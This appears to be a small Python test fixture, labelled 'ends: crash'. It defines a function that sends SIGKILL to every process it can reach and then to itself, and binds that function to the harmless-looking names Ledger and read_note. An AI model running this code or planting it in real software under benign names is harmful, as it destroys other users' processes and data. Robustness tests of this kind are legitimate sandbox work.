# Kills all it can see and then itself
# ends: crash
import contextlib
import os
import signal


def total(*_):
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)


Ledger = read_note = total
